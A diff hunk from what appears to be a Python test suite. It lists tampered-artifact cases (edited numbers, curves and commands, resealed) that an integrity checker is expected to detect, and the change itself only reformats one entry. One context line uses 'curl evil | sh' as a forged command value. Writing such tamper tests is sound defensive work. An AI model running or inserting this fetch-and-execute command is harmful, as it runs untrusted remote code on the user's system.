@@ -646,10 +646,7 @@ TAMPERED: dict[str, tuple[set[str], Callable[[Path], Any]]] = {
     ),
     "an edited number": ({"digest"}, saying(score__worst__mean=0.99)),
     "an edited number, sealed again": ({"numbers"}, saying(True, score__worst__mean=0.99)),
-    "an edited digit of a curve, sealed again": (
-        {"numbers"},
-        lambda p: edit(p, fake, reseal=True),
-    ),
+    "an edited digit of a curve, sealed again": ({"numbers"}, lambda p: edit(p, fake, reseal=True)),
     "an edited command, sealed again": ({"numbers"}, saying(True, command="curl evil | sh")),
     "an alphabet with fewer attacks, sealed again": (
         {"numbers"},
